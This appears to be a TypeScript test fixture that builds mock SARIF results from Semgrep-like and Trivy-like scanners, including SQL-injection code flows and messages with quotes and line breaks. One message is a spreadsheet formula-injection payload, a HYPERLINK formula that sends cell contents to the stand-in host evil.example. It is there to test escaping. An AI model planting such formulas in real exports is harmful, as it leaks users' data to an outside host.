/** A Semgrep-like run: `sql-*` ids critical with a code flow, `hash-*` medium, `formula-*` a formula message. */
export const semgrepRun = (ids: string[]) => ({
  tool: {
    driver: {
      name: 'Semgrep',
      rules: [
        {
          id: 'sql-injection',
          name: 'SqlInjection',
          shortDescription: { text: 'SQL built from input' },
          fullDescription: { text: 'A query is built from user input.' },
          help: { text: 'Use parameters.', markdown: 'Use **parameters**.' },
          helpUri: 'https://semgrep.dev/r/sql-injection',
          properties: { 'security-severity': '9.5', tags: ['security', 'cwe-89'] },
        },
        { id: 'weak-hash', properties: { 'security-severity': '5.0' } },
        { id: 'formula', defaultConfiguration: { level: 'note' } },
      ],
    },
  },
  automationDetails: { id: 'sast/run-1' },
  results: ids.map((id) => {
    const rule = id.startsWith('sql') ? 'sql-injection' : id.startsWith('hash') ? 'weak-hash' : 'formula';
    return {
      ruleId: rule,
      message: {
        text:
          rule === 'formula'
            ? '=HYPERLINK("http://evil.example/?x="&A1,"click")'
            : `Finding ${id}, with "quotes", commas and\na line break`,
      },
      locations: [
        {
          physicalLocation: {
            artifactLocation: { uri: `src/${id}.py` },
            region: { startLine: 10, endLine: 12, startColumn: 2, endColumn: 9 },
          },
        },
      ],
      fingerprints: { 'matchBasedId/v1': id },
      ...(rule === 'sql-injection'
        ? {
            relatedLocations: [
              {
                id: 1,
                message: { text: 'the input' },
                physicalLocation: { artifactLocation: { uri: 'src/input.py' }, region: { startLine: 3 } },
              },
            ],
            codeFlows: [
              {
                threadFlows: [
                  {
                    locations: [
                      {
                        location: {
                          message: { text: 'source' },
                          physicalLocation: {
                            artifactLocation: { uri: 'src/input.py' },
                            region: { startLine: 3 },
                          },
                        },
                      },
                      {
                        location: {
                          message: { text: 'sink' },
                          physicalLocation: {
                            artifactLocation: { uri: `src/${id}.py` },
                            region: { startLine: 10 },
                          },
                        },
                      },
                    ],
                  },
                ],
              },
            ],
          }
        : {}),
    };
  }),
});

/** A Trivy-like run: one result without a location. */
export const trivyRun = {
  tool: { driver: { name: 'Trivy', rules: [{ id: 'CVE-1', properties: { 'security-severity': '7.5' } }] } },
  results: [{ ruleId: 'CVE-1', message: { text: 'Package: openssl' } }],
};
